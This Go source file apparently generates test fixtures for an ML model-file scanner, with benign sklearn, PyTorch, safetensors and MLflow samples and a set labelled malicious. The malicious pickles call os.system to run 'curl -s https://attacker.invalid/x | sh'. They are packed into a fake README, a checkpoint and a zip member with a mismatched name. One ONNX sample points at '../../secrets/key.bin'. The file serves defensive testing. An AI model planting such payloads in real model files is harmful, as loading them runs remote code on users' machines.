package gen

// Examples are the files under examples/models, keyed by slash path.
func Examples() map[string][]byte {
	evil := CallGlobal(2, "os", "system", "curl -s https://attacker.invalid/x | sh")
	skLike := (&P{}).Proto(4).Unicode("sklearn.linear_model._logistic").Unicode("LogisticRegression").StackGlobal().
		EmptyTuple().NewObj().EmptyDict().Mark().Unicode("C").Raw('G', 0x3f, 0xf0, 0, 0, 0, 0, 0, 0).
		Unicode("coef_").Global("numpy.core.multiarray", "_reconstruct").Global("numpy", "ndarray").Int(0).Tuple1().
		ShortBinBytes([]byte("b")).Raw(0x87).Reduce().Mark().Int(1).Int(1).Int(3).Tuple2().
		Global("numpy", "dtype").Unicode("f8").Raw(0x89, 0x88).Raw(0x87).Reduce().
		Mark().Int(3).Unicode("<").None().None().None().Int(255).Int(255).Int(0).Tuple().Build().
		Raw(0x89).ShortBinBytes(make([]byte, 24)).Tuple().Build().
		Unicode("_sklearn_version").Unicode("1.9.1").SetItems().Build().Stop().B
	return map[string][]byte{
		"malicious/README.txt.pkl":         evil,
		"malicious/checkpoint.pt":          TorchZip(evil, make([]byte, 16)),
		"malicious/legacy_fifth_pickle.pt": TorchLegacy(5, evil),
		"malicious/name_mismatch.zip":      Zip(ZipMember{Name: "archive/notes.txt", LocalName: "archive/data.pkl", Data: evil, BadCRC: true}),
		"malicious/lambda.keras":           Keras(true),
		"malicious/custom_op.onnx":         ONNX("com.attacker", "../../secrets/key.bin", false),
		"benign/sklearn_logreg.pkl":        skLike,
		"benign/state_dict.pt":             TorchZip(TorchStateDict(4), make([]byte, 16)),
		"benign/weights.safetensors":       Safetensors(4, false),
		"benign/array.npy":                 Npy("<f8", make([]byte, 8)),
		"mlflow_model/MLmodel":             MLmodel("cloudpickle", "mlflow.sklearn", "", "", "model.pkl"),
		"mlflow_model/model.pkl":           skLike,
		"mlflow_model/requirements.txt":    []byte("scikit-learn==1.9.1\n"),
		"mlflow_pyfunc/MLmodel":            MLmodel("skops", "mlflow.pyfunc.model", "python_model.pkl", "code", "model.skops"),
		"mlflow_pyfunc/python_model.pkl":   CallGlobal(4, "cloudpickle.cloudpickle", "_make_function", "f"),
	}
}
